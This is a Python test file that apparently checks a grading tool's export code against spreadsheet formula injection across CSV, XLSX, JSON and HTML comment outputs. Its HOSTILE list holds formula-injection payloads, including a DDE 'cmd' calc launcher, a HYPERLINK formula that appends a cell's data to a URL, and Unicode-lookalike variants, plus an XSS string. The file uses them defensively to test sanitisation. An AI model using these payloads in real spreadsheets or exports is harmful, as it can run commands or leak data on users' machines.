"""Attack 79: no text of anybody's is a formula, and no number is text."""

import csv
import io
import json
import zipfile
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.gradebook.nouns import Grade, TaskPoints
from grader.reports.export import classroom, gradescope, nbgrader, own, workbook
from grader.reports.export.cells import (
    fixed_text,
    is_like_a_formula,
    number,
    number_from,
    number_text,
    text_cell,
)
from grader.reports.export.choosing import Line
from grader.reports.export.comments import comment, comment_html

HOSTILE = [
    "=cmd|' /C calc'!A1",
    '+HYPERLINK("http://127.0.0.1:9/?x="&A1,"here")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0@x",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\ufe66x",
    "\u22121",
    '"=1+1',
    "x\n=1+1",
    "x\r\n@SUM(1)",
    "Smith;=1+1",
    "Smith,@x",
    "a\t+1",
    'Smith;"=1+1',
    "%0A=1",
    "|calc",
]
STARTS = set("=+-@\t\r|%") | set("\uff1d\uff0b\uff0d\uff20\ufe66\u2212")


def starts_a_formula(cell):
    """An own, blunt look: what stands first in the cell, and in every piece that another delimiter would make."""
    pieces = [piece for line in cell.split("\n") for piece in split_at(line)]
    return any(piece.lstrip(' "\ufeff\u200b\u00a0')[:1] in STARTS - {""} for piece in pieces if piece)


def split_at(line):
    yield line
    for delimiter in ",;\t|":
        pieces = (piece.lstrip('"') for piece in line.split(delimiter)[1:])
        yield from (piece for piece in pieces if piece[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20"))


@pytest.mark.attack(79)
@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_a_cell_of_text_begins_with_nothing_that_a_spreadsheet_runs(text):
    assert starts_a_formula(text.replace("\r\n", "\n"))
    assert not starts_a_formula(text_cell(text)), text_cell(text)


@given(st.text(alphabet="=+-@\t\r\n ,;|'\"%aé\ufeff\u200b\uff1d\u22121.", max_size=12))
def test_no_text_at_all_becomes_a_formula(text):
    cell = text_cell(text)
    assert not starts_a_formula(cell), cell
    assert cell.replace("\n", "").isprintable() or "\u00a0" in cell or "\ufeff" in cell or "\u200b" in cell


@pytest.mark.parametrize("text", ["Ada", "Nguyễn Văn A", "山田 太郎", "محمد علي", "O'Brien", "7.5", "", "a = b", "x-y"])
def test_plain_text_stays_as_it_is(text):
    assert text_cell(text) == text


@pytest.mark.parametrize(
    ("text", "is_one"),
    [("-3", False), ("-3,50", False), ("+1.5", False), ("-", False), ("=1", True), ("-x", True), ("@a", True)],
)
def test_a_number_with_a_sign_is_no_formula(text, is_one):
    assert is_like_a_formula(text) is is_one


@pytest.mark.parametrize(
    ("value", "short", "fixed", "machine"),
    [
        (Fraction(20), "20", "20.00", 20),
        (Fraction(300), "300", "300.00", 300),
        (Fraction(1, 8), "0.13", "0.13", 0.125),
        (Fraction(1, 3), "0.33", "0.33", 0.3333),
        (Fraction(201, 200), "1.01", "1.01", 1.005),
        (Fraction(-5, 2), "-2.5", "-2.50", -2.5),
    ],
)
def test_halves_go_up_and_no_exponent_is_written(value, short, fixed, machine):
    assert (number_text(value), fixed_text(value), number(value)) == (short, fixed, machine)


def test_an_lms_number_is_read_with_point_and_comma():
    read = [number_from(text) for text in ("100.00", "100,00", "1.234,50", "1,234.50", "EX", "", "-", "1 000,5")]
    assert read == [100, 100, Fraction("1234.5"), Fraction("1234.5"), None, None, None, Fraction("1000.5")]


# --- whole files -------------------------------------------------------------------------------


def lines(texts):
    """A student for each text, who says it wherever a text can stand."""
    made = []
    for at, text in enumerate(texts):
        grade = Grade(
            f"s{at}", text, text, text, text, {"github_username": text, "roster_identifier": text, "sid": text},
            Fraction(15, 2), Fraction(20), entry=at, submission=text, lms_folder=text,
            tasks={text: TaskPoints(Fraction(-5, 2), Fraction(20), Fraction(0))}, feedback=f"{text}\n{text}",
        )  # fmt: skip
        made.append(Line(grade, Fraction(15, 2), Fraction(20)))
    return made


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.attack(79)
@pytest.mark.parametrize(
    "made",
    [
        own.as_csv,
        gradescope.made,
        lambda of: classroom.made(of, "=1+1"),
        lambda of: nbgrader.made(of, "=1+1"),
    ],
    ids=["csv", "gradescope", "classroom", "nbgrader"],
)
def test_a_table_has_no_formula_in_it_and_its_numbers_are_numbers(made):
    rows = list(csv.reader(io.StringIO(made(lines(HOSTILE)).data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for cell in row:
            assert is_number(cell) or not starts_a_formula(cell), cell
    assert sum(cell == "7.5" for row in rows for cell in row) >= len(HOSTILE)


@pytest.mark.attack(79)
def test_a_workbook_has_no_formula_in_it_and_its_numbers_are_numbers():
    import openpyxl

    data = workbook.as_xlsx(lines([*HOSTILE, "\x00\x0b\ud800"]), "=1+1").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    read = openpyxl.load_workbook(io.BytesIO(data))[openpyxl.load_workbook(io.BytesIO(data)).sheetnames[0]]
    types = {"s": 0, "n": 0}
    for row in read.iter_rows():
        for cell in row:
            if cell.value is None:
                continue
            assert cell.data_type in types
            types[cell.data_type] += 1
            if cell.data_type == "s":
                assert not starts_a_formula(cell.value), cell.value
                assert cell.quotePrefix
    header = [cell.value for cell in read[1]]
    points = [read.cell(at, header.index("points") + 1).value for at in range(2, read.max_row + 1)]
    assert points == [7.5] * (len(HOSTILE) + 1)
    assert -2.5 in [cell.value for cell in read[2]]


@pytest.mark.attack(79)
def test_json_gives_the_words_as_they_were_and_is_ascii():
    text = own.as_json(lines(HOSTILE), "digits").data.decode("ascii")
    assert [one["name"] for one in json.loads(text)["students"]] == HOSTILE


@pytest.mark.attack(79)
@pytest.mark.attack_partly(80, 81)
@pytest.mark.parametrize("text", [*HOSTILE, "<script>alert(1)</script>", '\\"', "\\", "a&b", "<=3", "x,=1", "-2: late"])
def test_a_comment_is_no_formula_and_no_markup(text):
    [line] = lines([text])
    said = comment_html(line)
    assert said.startswith("Points: 7.5 of 20<br>")
    assert not {'"', "\\", "\n", "\r", "\t"} & set(said)
    assert not starts_a_formula(said)
    assert "<" not in said.replace("<br>", "")
    assert not any(one.lstrip(" \ufeff\u200b\u00a0")[:1] in STARTS for one in comment(line).split("\n") if one)


def test_a_comment_says_the_points_once_and_what_the_student_may_read():
    grade = Grade("s1", points=Fraction(7), max_points=Fraction(20), feedback="7 of 20 points\n\nTask 1: x\n- row 1\n")
    assert comment(Line(grade, Fraction(7), Fraction(20))) == "Points: 7 of 20\n\nTask 1: x\n• row 1"


def test_a_comment_of_any_length_is_cut_and_counted():
    grade = Grade("s1", points=Fraction(7), max_points=Fraction(20), feedback="x" * 5_000 + "\n" + "line\n" * 100_000)
    said = comment(Line(grade, Fraction(7), Fraction(20)))
    assert len(said) < 21_000
    assert "[... 4,000 more characters]" in said
    assert said.endswith("more characters]")
